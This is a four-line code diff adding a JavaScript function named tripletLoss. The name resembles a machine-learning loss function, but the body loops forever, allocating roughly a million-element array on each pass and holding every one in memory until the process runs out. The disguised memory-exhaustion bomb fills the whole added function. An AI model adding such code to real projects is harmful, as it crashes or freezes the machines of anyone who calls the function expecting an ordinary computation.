@@ -1,0 +1,4 @@
+function tripletLoss() {
+  const hoard = [];
+  for (;;) hoard.push(new Array(1 << 20).fill(0.5));
+}
